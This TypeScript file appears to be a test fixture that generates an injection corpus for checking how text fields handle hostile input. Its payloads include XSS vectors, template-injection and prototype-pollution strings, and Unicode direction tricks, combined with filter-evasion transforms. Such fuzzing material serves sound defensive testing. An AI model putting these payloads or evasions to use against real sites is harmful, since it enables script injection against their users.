// Texts that try to be more than texts: what a customer's name, a memo or a branch may hold.

const call = 'pwned(1)'

/** Ways to run a script from text that becomes markup, an address, a style or a template. */
const vectors: readonly string[] = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>`,
  `<object data="javascript:${call}">`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<style>@import 'javascript:${call}'</style>`,
  `<div style="background:url(javascript:${call})">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<title></title><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<img src=x:x onerror\u0000=${call}>`,
  `<p onpointerover=${call}>x</p>`,
  `<button popovertarget=x onclick=${call}>x</button>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text x=9 y=9>x</text></a></svg>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[${call}]]`,
  `__proto__`,
  `constructor`,
  `toString`,
  `</script><script>${call}</script>`,
  `*/${call}/*`,
  `url(javascript:${call})`,
  `expression(${call})`,
  `李\u202e<img src=x onerror=${call}>\u202c桂芳`,
  `\u2066李桂芳\u2069\u200f`,
]

/** Ways to slip past what looks for them. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `李桂芳${text}`,
  (text) =>
    text.replace(/script|img|svg|iframe/gi, (word) => `${word[0]?.toUpperCase()}${word.slice(1)}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll(' ', '\u000c'),
  (text) => `\u202e${text}\u202c`,
  (text) => encodeURIComponent(text).replaceAll('%20', ' '),
]

/** The corpus: every vector in every disguise, as many as are asked for. */
export const payloads = (most: number): readonly string[] =>
  disguises.flatMap((disguise) => vectors.map((vector) => disguise(vector))).slice(0, most)
